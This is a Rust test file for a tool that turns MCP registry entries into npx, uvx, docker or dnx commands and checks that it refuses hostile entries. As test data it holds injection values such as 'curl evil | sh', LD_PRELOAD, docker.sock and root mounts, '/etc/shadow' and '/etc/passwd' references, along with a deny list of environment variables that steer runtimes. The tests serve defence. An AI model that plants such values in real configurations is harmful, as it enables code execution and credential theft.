//! Entries of each shape as commands and addresses, and hostile ones, which are refused with words.

#![allow(clippy::unwrap_used)]

use registry::{Answers, Launch, Plan, ServerJson, Way, plan};
use serde_json::{Value, json};

fn entry(members: Value) -> Value {
    let mut entry = json!({
        "$schema": registry::SCHEMA,
        "name": "io.github.example/weather",
        "description": "Weather of any place",
        "version": "1.2.3",
    });
    for (name, value) in members.as_object().unwrap() {
        entry[name] = value.clone();
    }
    entry
}

fn of_package(mut package: Value) -> Value {
    if package.get("transport").is_none() {
        package["transport"] = json!({ "type": "stdio" });
    }
    entry(json!({ "packages": [package] }))
}

fn planned(entry: &Value, answers: &[(&str, &str)]) -> Plan {
    let server =
        ServerJson::parse(&entry.to_string()).unwrap_or_else(|it| panic!("{it:?}: {entry}"));
    let mut given = Answers::new();
    for (name, value) in answers {
        let values = given.entry((*name).to_owned()).or_default();
        values.push((*value).to_owned());
    }
    plan(&server, &Way::First, &given).unwrap_or_else(|it| panic!("{it}: {entry}"))
}

/// The command line, with secrets in angle brackets, and the environment behind `|`.
fn line(plan: &Plan) -> String {
    let shown = |words: &registry::Words| words.written(|name, _| format!("<{name}>"));
    match &plan.launch {
        Launch::Program {
            program,
            arguments,
            environment,
            ..
        } => {
            let mut line = program.clone();
            for argument in arguments {
                line += &format!(" {}", shown(argument));
            }
            for (name, value) in environment {
                line += &format!(" | {name}={}", shown(value));
            }
            line
        }
        Launch::Address {
            url,
            headers,
            is_sse,
        } => {
            let mut line = format!("{}{}", if *is_sse { "sse " } else { "" }, shown(url));
            for (name, value) in headers {
                line += &format!(" | {name}: {}", shown(value));
            }
            line
        }
        Launch::Bundle { url, sha256 } => format!("{url} {sha256}"),
    }
}

/// Packages of each kind, with the beginning of their command lines.
fn packages() -> Vec<(Value, &'static str)> {
    let digest = "ab".repeat(32);
    let image = format!("ghcr.io/example/weather@sha256:{digest}");
    let by_digest: &'static str = Box::leak(format!("docker run -i --rm {image}").into_boxed_str());
    vec![
        (
            json!({"registryType": "npm", "identifier": "@example/weather", "version": "1.2.3"}),
            "npx -y @example/weather@1.2.3",
        ),
        (
            json!({"registryType": "npm", "identifier": "weather", "version": "1.2.3", "runtimeHint": "bunx"}),
            "bunx weather@1.2.3",
        ),
        (
            json!({"registryType": "npm", "identifier": "weather", "version": "v2.0.0-rc.1", "runtimeHint": "node"}),
            "npx -y weather@v2.0.0-rc.1",
        ),
        (
            json!({"registryType": "pypi", "identifier": "weather-mcp", "version": "0.5.0", "runtimeHint": "uvx"}),
            "uvx weather-mcp@0.5.0",
        ),
        (
            json!({"registryType": "pypi", "identifier": "weather[http]", "version": "0.5.0",
                   "registryBaseUrl": "https://packages.example.com/simple"}),
            "uvx --default-index=https://packages.example.com/simple weather[http]@0.5.0",
        ),
        (
            json!({"registryType": "oci", "identifier": "ghcr.io/example/weather:1.2.3"}),
            "docker run -i --rm ghcr.io/example/weather:1.2.3",
        ),
        (
            json!({"registryType": "oci", "identifier": "example/weather", "version": "1.2.3",
                   "registryBaseUrl": "https://docker.io", "runtimeHint": "podman"}),
            "podman run -i --rm example/weather:1.2.3",
        ),
        (
            json!({"registryType": "oci", "identifier": image}),
            by_digest,
        ),
        (
            json!({"registryType": "nuget", "identifier": "Example.Weather", "version": "0.4.0-beta",
                   "registryBaseUrl": "https://api.nuget.org/v3/index.json", "runtimeHint": "dnx"}),
            "dnx Example.Weather@0.4.0-beta --yes",
        ),
    ]
}

/// Arguments of each form, with the end of the command line.
fn arguments() -> Vec<(Value, &'static str)> {
    vec![
        (json!([]), ""),
        (
            json!([{"type": "positional", "value": "mcp"}, {"type": "positional", "value": "start"}]),
            "mcp start",
        ),
        (
            json!([{"type": "named", "name": "--port", "value": "80"}]),
            "--port=80",
        ),
        (
            json!([{"type": "named", "name": "-p", "default": "80"}]),
            "-p 80",
        ),
        (
            json!([{"type": "named", "name": "--units=", "default": "metric", "choices": ["metric", "us"]}]),
            "--units=metric",
        ),
        (
            json!([{"type": "named", "name": "--port", "format": "number"}]),
            "",
        ),
        (
            json!([{"type": "positional", "valueHint": "place", "isRepeated": true, "isRequired": true, "default": "Rome"}]),
            "Rome",
        ),
        (
            json!([{"type": "named", "name": "--mode", "value": "{mode}-{other}", "variables": {"mode": {"default": "fast"}}}]),
            "--mode=fast-{other}",
        ),
    ]
}

#[test]
fn entries_of_each_shape_become_their_commands() {
    let mut entries = 0;
    for (package, beginning) in packages() {
        for (arguments, end) in arguments() {
            let mut package = package.clone();
            let is_nuget = package["registryType"] == "nuget";
            package["packageArguments"] = arguments;
            let between = if is_nuget && !end.is_empty() {
                " -- "
            } else {
                " "
            };
            let expected = match end {
                "" => beginning.to_owned(),
                end => format!("{beginning}{between}{end}"),
            };
            let plan = planned(&of_package(package), &[]);
            assert_eq!(line(&plan), expected);
            assert_eq!((plan.refused, plan.missing), (vec![], vec![]));
            entries += 1;
        }
    }
    assert!(entries > 50, "{entries}");
}

#[test]
fn variables_are_asked_for_and_secrets_stay_secrets() {
    let package = json!({
        "registryType": "oci",
        "identifier": "ghcr.io/example/db:3.1.0",
        "runtimeArguments": [
            {"type": "named", "name": "--rm"},
            {"type": "named", "name": "--network", "value": "host"},
            {"type": "named", "name": "-e", "value": "DB_TYPE={kind}",
             "variables": {"kind": {"isRequired": true, "choices": ["mysql", "redis"]}}},
        ],
        "environmentVariables": [
            {"name": "DB_USER", "isRequired": true},
            {"name": "DB_PASSWORD", "isRequired": true, "isSecret": true},
            {"name": "DB_HEADER", "value": "Bearer {token}", "isSecret": true,
             "variables": {"token": {"isRequired": true, "isSecret": true}}},
            {"name": "SSL_MODE", "default": "prefer", "choices": ["prefer", "require"]},
            {"name": "EXTRA", "isSecret": true},
            {"name": "OPTIONAL", "value": "Bearer {unset}", "variables": {"unset": {"isSecret": true}}},
        ],
    });
    let entry = of_package(package);
    let plan = planned(&entry, &[]);
    assert_eq!(plan.missing, ["DB_USER", "kind"]);
    let plan = planned(
        &entry,
        &[
            ("DB_USER", "ana"),
            ("kind", "redis"),
            ("token", "hunter2-secret"),
        ],
    );
    assert_eq!((&plan.refused, &plan.missing), (&vec![], &vec![]));
    assert_eq!(
        line(&plan),
        "docker run -i --rm -e DB_USER -e DB_PASSWORD -e DB_HEADER -e SSL_MODE --network=host -e DB_TYPE=redis \
         ghcr.io/example/db:3.1.0 | DB_USER=ana | DB_PASSWORD=<DB_PASSWORD> | DB_HEADER=Bearer <token> | SSL_MODE=prefer"
    );
    assert!(
        plan.warnings.iter().any(|it| it.contains("--network=host")),
        "{:?}",
        plan.warnings
    );
    for (answers, why) in [
        (vec![("kind", "oracle")], "must be one of mysql, redis"),
        (
            vec![("kind", "redis"), ("kind", "mysql")],
            "can be given once",
        ),
        (
            vec![("DB_PASWORD", "x")],
            "`DB_PASWORD` is not asked for: it asks for DB_USER, DB_PASSWORD",
        ),
        (vec![("DB_USER", "a\nb")], "has a line end"),
    ] {
        let refused = planned(&entry, &answers).refused.join("; ");
        assert!(refused.contains(why), "{refused}");
    }
}

#[test]
fn remotes_become_addresses() {
    let remote = |remote: Value| entry(json!({ "remotes": [remote] }));
    let plan = planned(
        &remote(json!({
            "type": "streamable-http",
            "url": "https://{tenant}.example.com/mcp",
            "variables": {"tenant": {"isRequired": true}},
            "headers": [
                {"name": "Authorization", "value": "Bearer {key}", "variables": {"key": {"isSecret": true, "isRequired": true}}},
                {"name": "X-Region", "default": "eu"},
            ],
        })),
        &[("tenant", "acme")],
    );
    assert_eq!(
        line(&plan),
        "https://acme.example.com/mcp | Authorization: Bearer <key> | X-Region: eu"
    );
    let sse = planned(
        &remote(json!({"type": "sse", "url": "http://old.example.com/sse"})),
        &[],
    );
    assert_eq!(line(&sse), "sse http://old.example.com/sse");
    assert_eq!(
        sse.warnings,
        ["requests to it are not encrypted (`http://`)"]
    );
    // An entry with both is run by its package, unless the operator wants the address.
    let mut both =
        of_package(json!({"registryType": "npm", "identifier": "weather", "version": "1.0.0"}));
    both["remotes"] = json!([{"type": "streamable-http", "url": "https://example.com/mcp"}]);
    let server = ServerJson::of(both).unwrap();
    let by = |way: Way| line(&plan_with(&server, way));
    assert_eq!(by(Way::First), "npx -y weather@1.0.0");
    assert_eq!(
        by(Way::Kind("remote".to_owned())),
        "https://example.com/mcp"
    );
}

fn plan_with(server: &ServerJson, way: Way) -> Plan {
    plan(server, &way, &Answers::new()).unwrap()
}

#[test]
fn a_strangers_text_refers_to_nothing_here() {
    let package = json!({
        "registryType": "npm", "identifier": "weather", "version": "1.0.0",
        "packageArguments": [
            {"type": "positional", "value": "${file:/etc/shadow}"},
            {"type": "named", "name": "--key", "default": "${vault:GITHUB_TOKEN}"},
        ],
        "environmentVariables": [{"name": "A", "value": "${HOME}/$${x}"}],
    });
    let plan = planned(&of_package(package), &[]);
    assert_eq!(
        line(&plan),
        "npx -y weather@1.0.0 $${file:/etc/shadow} --key=$${vault:GITHUB_TOKEN} | A=$${HOME}/$$${x}"
    );
}

/// Reason why an entry is not taken.
fn refusal(entry: &str) -> String {
    let server = match ServerJson::parse(entry) {
        Ok(server) => server,
        Err(found) => {
            let found: Vec<_> = found.iter().map(ToString::to_string).collect();
            return found.join("; ");
        }
    };
    match plan(&server, &Way::First, &Answers::new()) {
        Ok(plan) => plan.refused.join("; "),
        Err(error) => error.to_string(),
    }
}

#[test]
fn hostile_entries_are_refused_with_words() {
    let npm = |more: Value| {
        let mut package =
            json!({"registryType": "npm", "identifier": "weather", "version": "1.0.0"});
        for (name, value) in more.as_object().unwrap() {
            package[name] = value.clone();
        }
        of_package(package).to_string()
    };
    let oci = |more: Value| {
        let mut package = json!({"registryType": "oci", "identifier": "example/weather:1.0.0"});
        for (name, value) in more.as_object().unwrap() {
            package[name] = value.clone();
        }
        of_package(package).to_string()
    };
    let whole = |more: Value| entry(more).to_string();
    let remote = |url: &str| {
        entry(json!({"remotes": [{"type": "streamable-http", "url": url}]})).to_string()
    };
    let rows: Vec<(String, &str)> = vec![
        ("{".to_owned(), "it is no JSON"),
        ("[]".to_owned(), "it is no object"),
        (" ".repeat(registry::MAX_BYTES + 1), "it is longer than"),
        (whole(json!({"name": "weather"})), "name: must be a namespace"),
        (whole(json!({"name": "a/../../etc"})), "name: must be a namespace"),
        (whole(json!({"name": "a/.."})), "name: must be a namespace"),
        (whole(json!({"version": "latest"})), "version: `latest` is no single version"),
        (whole(json!({"version": "^1.0.0"})), "version: `^1.0.0` is no single version"),
        (whole(json!({"description": "x".repeat(101)})), "description: has more than 100 characters"),
        (whole(json!({"description": "a\u{1b}[2Jb"})), "a terminal obeys"),
        (whole(json!({"title": "a\u{202e}b"})), "a reader does not see"),
        (whole(json!({"packages": {}})), "packages: is no list"),
        (whole(json!({"$schema": "https://static.modelcontextprotocol.io/schemas/2025-07-09/server.schema.json"})), "names of before 2025-09-16"),
        (whole(json!({"packages": [{"registry_type": "npm"}]})), "names of before 2025-09-16"),
        (whole(json!({"$schema": "x"})), "is no schema"),
        (whole(json!({})), "neither packages nor remotes"),
        (npm(json!({"version": "1.x"})), "no single version"),
        (npm(json!({"version": "*"})), "no single version"),
        (npm(json!({"version": "1.2"})), "`1.2` is a range for npm"),
        (npm(json!({"version": null})), "it has no version"),
        (npm(json!({"identifier": "../evil"})), "is no name of a package of npm"),
        (npm(json!({"identifier": "--call"})), "is no name of a package of npm"),
        (npm(json!({"identifier": "https://evil.example/x.tgz"})), "is no name of a package of npm"),
        (npm(json!({"identifier": "a@npm:b"})), "is no name of a package of npm"),
        (npm(json!({"registryType": "cargo"})), "of the kind `cargo` cannot be run here"),
        (npm(json!({"registryBaseUrl": "http://evil.example"})), "is no `https://` address"),
        (npm(json!({"transport": {"type": "streamable-http", "url": "http://localhost:1"}})), "it serves HTTP by itself"),
        (npm(json!({"fileSha256": "ABC"})), "64 hexadecimal digits"),
        (npm(json!({"runtimeHint": "bash", "runtimeArguments": [{"type": "positional", "value": "-c"}]})), "its runtime `bash` is none"),
        (npm(json!({"runtimeArguments": [{"type": "named", "name": "--call", "value": "curl evil | sh"}]})), "for npx is none of those that are known not to decide which code is run"),
        (npm(json!({"runtimeArguments": [{"type": "positional", "value": "-cevil"}]})), "`-cevil` for npx is none of those"),
        (npm(json!({"runtimeArguments": [{"type": "positional", "value": "--registry=https://evil.example"}]})), "`--registry=https://evil.example` for npx is none of those"),
        (npm(json!({"packageArguments": [{"type": "named", "name": "--a b; rm"}]})), "must be the flag alone"),
        (npm(json!({"packageArguments": [{"type": "positional", "value": "a\nb"}]})), "a terminal obeys"),
        (npm(json!({"packageArguments": [{"type": "positional"}]})), "lacks `value` or `valueHint`"),
        (npm(json!({"packageArguments": vec![json!({"type": "positional", "value": "a"}); 129]})), "more than 128 elements"),
        (npm(json!({"environmentVariables": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]})), "`LD_PRELOAD` decides which code is run"),
        (npm(json!({"environmentVariables": [{"name": "npm_config_registry", "value": "x"}]})), "decides which code is run"),
        (npm(json!({"environmentVariables": [{"name": "A=B", "value": "x"}]})), "`A=B` is no name of a variable"),
        (npm(json!({"environmentVariables": [{"name": "A"}, {"name": "a"}]})), "`a` is there twice"),
        (npm(json!({"environmentVariables": [{"value": "x"}]})), "lacks `name`"),
        (oci(json!({"identifier": "example/weather:latest"})), "`latest` names another image each day"),
        (oci(json!({"identifier": "example/weather"})), "neither a tag nor a digest"),
        (oci(json!({"identifier": "example/weather@sha256:zz"})), "its digest is none"),
        (oci(json!({"runtimeArguments": [{"type": "named", "name": "--privileged"}]})), "`--privileged` for docker is none of those"),
        (oci(json!({"runtimeArguments": [{"type": "named", "name": "-v", "value": "/var/run/docker.sock:/s"}]})), "the socket of docker is the whole machine"),
        (oci(json!({"registryBaseUrl": "https://evil.example"})), "stands beside the image: it must be the beginning"),
        (npm(json!({"registryType": "mcpb", "identifier": "http://example.com/a.mcpb", "fileSha256": "a".repeat(64)})), "fetched by `https://` alone"),
        (npm(json!({"registryType": "mcpb", "identifier": "https://example.com/a.mcpb"})), "it has no `fileSha256`"),
        (remote("file:///etc/passwd"), "must begin with `https://`"),
        (remote("https://example.com/a b"), "must begin with `https://`"),
        (remote("https://user:password@example.com/"), "has a user or a password"),
        (entry(json!({"remotes": [{"type": "websocket", "url": "https://x"}]})).to_string(), "is neither `streamable-http` nor `sse`"),
        (
            entry(json!({"remotes": [{"type": "sse", "url": "https://x", "headers": [{"name": "Host", "value": "y"}]}]})).to_string(),
            "`Host` is for the client to set",
        ),
        (
            entry(json!({"remotes": [{"type": "sse", "url": "https://x", "headers": [{"name": "A: b", "value": "y"}]}]})).to_string(),
            "is no name of a header",
        ),
        (
            entry(json!({"remotes": [{"type": "sse", "url": "{base}/x", "variables": {"base": {"default": "ftp://x"}}}]})).to_string(),
            "is no address of HTTP",
        ),
    ];
    for (entry, expected) in rows {
        let told = refusal(&entry);
        let entry: String = entry.chars().take(300).collect();
        assert!(
            told.contains(expected),
            "{entry}\nexpected {expected}\nfound    {told}"
        );
    }
}

#[test]
fn a_runtime_is_told_what_is_known_to_be_harmless_and_nothing_else() {
    let package = |kind: &str, arguments: &Value| {
        let identifier = match kind {
            "oci" => "example/weather:1.0.0",
            _ => "weather",
        };
        of_package(json!({
            "registryType": kind, "identifier": identifier, "version": "1.0.0", "runtimeArguments": arguments,
            "packageArguments": [{"type": "positional", "value": "evil:1"}],
        }))
    };
    let named = |name: &str, value: &str| json!({"type": "named", "name": name, "value": value});
    let flag = |name: &str| json!({"type": "named", "name": name});
    let word = |value: &str| json!({"type": "positional", "value": value});
    let refused = [
        ("npm", json!([word("evil")]), "the word `evil` for npx"),
        ("npm", json!([flag("evil")]), "the word `evil` for npx"),
        ("npm", json!([named("--cal", "evil")]), "`--cal=evil`"),
        ("npm", json!([flag("--cal"), word("evil")]), "`--cal`"),
        ("npm", json!([flag("-yp"), word("evil")]), "`-yp`"),
        ("npm", json!([named("-y", "evil")]), "the word `evil`"),
        (
            "npm",
            json!([named("--yes", "evil")]),
            "`--yes` takes no value",
        ),
        ("npm", json!([named("--reg", "http://evil")]), "`--reg="),
        ("npm", json!([flag("--")]), "`--` for npx"),
        ("pypi", json!([word("evil")]), "the word `evil` for uvx"),
        (
            "pypi",
            json!([named("-p", "/tmp/evil")]),
            "the value of `-p` must be",
        ),
        (
            "pypi",
            json!([named("--python", "/tmp/evil")]),
            "the value of `--python`",
        ),
        (
            "pypi",
            json!([flag("-p")]),
            "would take the package for its value",
        ),
        (
            "oci",
            json!([word("evil:1")]),
            "the word `evil:1` for docker",
        ),
        (
            "oci",
            json!([word("-i"), word("run")]),
            "the word `run` for docker",
        ),
        ("oci", json!([named("-itv", "/:/h")]), "`-itv`"),
        (
            "oci",
            json!([named("-v", "/:/h")]),
            "leads to `/` of this machine",
        ),
        ("oci", json!([flag("-v/:/h")]), "`-v/:/h` for docker"),
        ("oci", json!([named("-v", "../x:/h")]), "leads to `../x`"),
        (
            "oci",
            json!([named("--mount", "type=bind,src=/var/run,dst=/r")]),
            "leads to `/var/run`",
        ),
        (
            "oci",
            json!([named(
                "--mount",
                "type=volume,src=a,dst=/r,volume-opt=device=/"
            )]),
            "has `volume-opt=device=/`",
        ),
        (
            "oci",
            json!([named("--network", "container:db")]),
            "is no name of a network",
        ),
        (
            "oci",
            json!([flag("--name")]),
            "would take the package for its value",
        ),
        ("nuget", json!([word("Evil")]), "the word `Evil` for dnx"),
        (
            "nuget",
            json!([named("--add-sourc", "http://evil")]),
            "`--add-sourc=",
        ),
    ];
    for (kind, arguments, expected) in refused {
        let told = refusal(&package(kind, &arguments).to_string());
        assert!(
            told.contains(expected),
            "{arguments}: expected {expected}\nfound {told}"
        );
    }
    let taken = [
        (
            "npm",
            json!([flag("-y"), flag("--quiet")]),
            "npx -y --quiet weather@1.0.0 evil:1",
        ),
        (
            "pypi",
            json!([named("--python", "3.12"), flag("-q")]),
            "uvx --python=3.12 -q weather@1.0.0 evil:1",
        ),
        // A value is no word of ours, or the image would be taken for it.
        (
            "oci",
            json!([
                word("run"),
                flag("--rm"),
                named("-e", "run"),
                named("-v", "data:/data")
            ]),
            "docker run -i --rm -e run -v data:/data example/weather:1.0.0 evil:1",
        ),
    ];
    for (kind, arguments, expected) in taken {
        let plan = planned(&package(kind, &arguments), &[]);
        assert_eq!((line(&plan).as_str(), &plan.refused), (expected, &vec![]));
    }
    // A path that the operator gives is the operator's choice; one that the publisher proposes is not.
    let mount = |variable: Value| {
        let value = json!([{"type": "named", "name": "-v", "value": "{place}:/data", "variables": {"place": variable}}]);
        package("oci", &value)
    };
    let plan = planned(
        &mount(json!({"isRequired": true})),
        &[("place", "/srv/data")],
    );
    assert_eq!(plan.refused, Vec::<String>::new());
    assert!(
        plan.warnings
            .iter()
            .any(|it| it.contains("`-v /srv/data:/data`")),
        "{:?}",
        plan.warnings
    );
    let told = refusal(&mount(json!({"default": "/"})).to_string());
    assert!(told.contains("leads to `/` of this machine"), "{told}");
}

#[test]
fn variables_that_steer_a_runtime_are_refused() {
    let entry = |name: &str| {
        of_package(json!({
            "registryType": "pypi", "identifier": "weather", "version": "1.0.0",
            "environmentVariables": [{"name": name, "value": "x"}],
        }))
        .to_string()
    };
    for name in [
        "PYTHONPATH",
        "PYTHONUSERBASE",
        "XDG_CONFIG_HOME",
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
        "VIRTUAL_ENV",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "GIT_SSH_COMMAND",
        "REQUESTS_CA_BUNDLE",
        "OPENSSL_CONF",
        "NUGET_PACKAGES",
        "LUA_INIT",
        "LUA_CPATH_5_4",
        "PHPRC",
        "PHP_INI_SCAN_DIR",
        "R_PROFILE_USER",
        "R_LIBS_SITE",
        "JULIA_LOAD_PATH",
        "ERL_FLAGS",
        "ERL_LIBS",
        "GUILE_LOAD_PATH",
        "TCLLIBPATH",
        "MONO_PATH",
        "GOFLAGS",
        "GOPROXY",
        "RUSTC_WRAPPER",
        "CARGO_HOME",
        "MAVEN_OPTS",
        "GRADLE_OPTS",
        "SBT_OPTS",
        "JAVA_HOME",
        "TS_NODE_PROJECT",
        "GIO_MODULE_DIR",
        "GTK_MODULES",
        "QT_PLUGIN_PATH",
        "COR_PROFILER_PATH",
        "CORECLR_PROFILER",
        "LESSOPEN",
        "KUBECONFIG",
        "BROWSER",
        "EDITOR",
        "GIT_EDITOR",
        "MANPAGER",
        "PUPPETEER_EXECUTABLE_PATH",
        "PLAYWRIGHT_BROWSERS_PATH",
        "CHROME_PATH",
        "OWLCLAW_VAULT_KEY",
        "MCP_SERVER_HTTP_PORT",
        "SSH_ASKPASS",
        "SUDO_ASKPASS",
        "ODBCSYSINI",
        "ODBCINI",
        "PSModulePath",
        "MYSQL_HOME",
        "ORACLE_HOME",
        "TNS_ADMIN",
        "PGSERVICEFILE",
        "PGSYSCONFDIR",
        "PGSSLKEY",
        "WGETRC",
        "MALLOC_CONF",
        "ELECTRON_RUN_AS_NODE",
        "HGRCPATH",
        "RSYNC_RSH",
    ] {
        let told = refusal(&entry(name));
        assert!(told.contains("decides which code is run"), "{name}: {told}");
    }
    for name in [
        "API_KEY",
        "SSL_MODE",
        "PYTHONUNBUFFERED",
        "NODE_ENV",
        "PERSONAL_TOKEN",
        "PGHOST",
        "PGPASSWORD",
        "MYSQL_HOST",
        "ORACLE_SID",
    ] {
        assert_eq!(refusal(&entry(name)), "", "{name}");
    }
}

#[test]
fn an_operator_may_give_a_variable_that_steers() {
    let entry = |members: Value| {
        let mut variable = json!({"name": "KUBECONFIG"});
        for (name, value) in members.as_object().unwrap() {
            variable[name] = value.clone();
        }
        of_package(json!({
            "registryType": "pypi", "identifier": "kube", "version": "1.0.0", "environmentVariables": [variable],
        }))
    };
    let given = [("KUBECONFIG", "/home/ana/.kube/config")];
    for members in [
        json!({}),
        json!({"isRequired": true}),
        json!({"default": "/tmp/x"}),
    ] {
        let plan = planned(&entry(members), &given);
        assert_eq!(plan.refused, Vec::<String>::new());
        assert_eq!(
            line(&plan),
            "uvx kube@1.0.0 | KUBECONFIG=/home/ana/.kube/config"
        );
        assert!(
            plan.warnings[0].contains("`KUBECONFIG`, to which you give a value"),
            "{:?}",
            plan.warnings
        );
    }
    let plan = planned(&entry(json!({})), &[]);
    assert_eq!((plan.refused, plan.warnings), (vec![], vec![]));
    let plan = planned(&entry(json!({"isRequired": true})), &[]);
    assert_eq!(
        (plan.refused, plan.missing),
        (vec![], vec!["KUBECONFIG".to_owned()])
    );
    let template = json!({"value": "/tmp/{x}", "variables": {"x": {"isRequired": true}}});
    let plan = planned(&entry(template), &[("x", "y")]);
    assert!(plan.refused[0].contains("--set"), "{:?}", plan.refused);
}

#[test]
fn what_is_configured_here_is_described_without_its_secrets() {
    let environment = [
        ("TOKEN".to_owned(), "${vault:WEATHER_TOKEN}".to_owned()),
        ("UNITS".to_owned(), "metric".to_owned()),
        ("PASSWORD".to_owned(), "hunter2".to_owned()),
    ];
    let arguments = [
        "-y",
        "@example/weather@1.2.3",
        "--place",
        "Rome",
        "--key=${KEY}",
        "--api-key",
        "BSAqwertz",
        "--password",
        "hunter2",
        "--token=hunter3",
        "--header",
        "X-Auth: hunter4",
        "redis://:hunter5@cache/0",
    ]
    .map(str::to_owned);
    let described = registry::Described {
        name: "com.example/weather",
        version: "1.0.0",
        description: "Weather",
        command: Some(("npx", &arguments)),
        environment: &environment,
        url: None,
        headers: &[],
    };
    let entry = registry::described(&described).unwrap();
    let plan = planned(&entry, &[]);
    assert_eq!(
        line(&plan),
        "npx -y @example/weather@1.2.3 --place Rome <argument_3> --api-key <argument_5> \
         --password <argument_7> <argument_8> --header <argument_10> <argument_11> | TOKEN=<TOKEN> | UNITS=metric | PASSWORD=<PASSWORD>"
    );
    for secret in ["BSAqwertz", "hunter"] {
        assert!(!entry.to_string().contains(secret), "{entry}");
    }
    let refused = |described: registry::Described<'_>| registry::described(&described).unwrap_err();
    let own = ["server.py".to_owned()];
    assert!(
        refused(registry::Described {
            command: Some(("/srv/run", &own)),
            ..described
        })
        .contains("a program of this machine")
    );
    let unpinned = ["weather".to_owned()];
    assert!(
        refused(registry::Described {
            command: Some(("uvx", &unpinned)),
            ..described
        })
        .contains("has no version")
    );
    for (url, why) in [
        ("https://example.com/mcp?key=1", "may be a secret"),
        ("https://u:hunter2@example.com/mcp", "secret (password)"),
        (
            "https://example.com/s/aB3dE5fG7hI9jK1lM3nO5pQ7/mcp",
            "secret (a part of the path)",
        ),
    ] {
        let address = registry::Described {
            command: None,
            url: Some((url, false)),
            ..described
        };
        let refused = refused(address);
        assert!(refused.contains(why), "{refused}");
        assert!(
            !refused.contains("hunter2") && !refused.contains("aB3d"),
            "{refused}"
        );
    }
}

#[test]
fn an_entry_is_the_one_that_was_asked_for_or_says_which_it_is() {
    let server = ServerJson::parse(&entry(json!({})).to_string()).unwrap();
    let name = "io.github.example/weather";
    for version in [None, Some("1.2.3")] {
        assert_eq!(server.differs_from(name, version), None, "{version:?}");
    }
    let why = server.differs_from("io.github.example/time", None);
    assert_eq!(
        why.unwrap(),
        "it is `io.github.example/weather@1.2.3`, and `io.github.example/time` was asked for"
    );
    for (name, version) in [
        (name, "1.2.4"),
        (name, "v1.2.3"),
        ("io.github.Example/weather", "1.2.3"),
    ] {
        assert!(server.differs_from(name, Some(version)).is_some());
    }
}

#[test]
fn an_entry_that_its_registry_has_deleted_is_refused_and_a_deprecated_one_is_told() {
    let answer = |status: Value| {
        let meta = json!({ "io.modelcontextprotocol.registry/official": status });
        ServerJson::parse(&json!({ "server": entry(json!({})), "_meta": meta }).to_string())
    };
    for status in [json!({}), json!({ "status": "active" })] {
        assert_eq!(answer(status).unwrap().remarks, Vec::<String>::new());
    }
    let deleted = answer(json!({ "status": "deleted", "statusMessage": "malware" })).unwrap_err();
    assert_eq!(
        deleted[0].why,
        "its registry says that it is deleted: malware"
    );
    let deprecated = answer(json!({ "status": "deprecated" })).unwrap();
    assert_eq!(
        deprecated.remarks,
        ["its registry says that it is deprecated"]
    );
    let strange = answer(json!({ "status": 3 })).unwrap();
    assert!(
        strange.remarks[0].contains("the status `3`"),
        "{:?}",
        strange.remarks
    );
    let within = entry(json!({ "status": "deleted" }));
    assert!(ServerJson::parse(&within.to_string()).is_err());
}

#[test]
fn an_entry_that_says_two_things_is_refused() {
    let text = entry(json!({})).to_string();
    let twice = text.replacen('{', r#"{"n\u0061me": "io.github.example/time","#, 1);
    let found = ServerJson::parse(&twice).unwrap_err();
    assert_eq!(found[0].why, "`name` is there twice in one object");
}
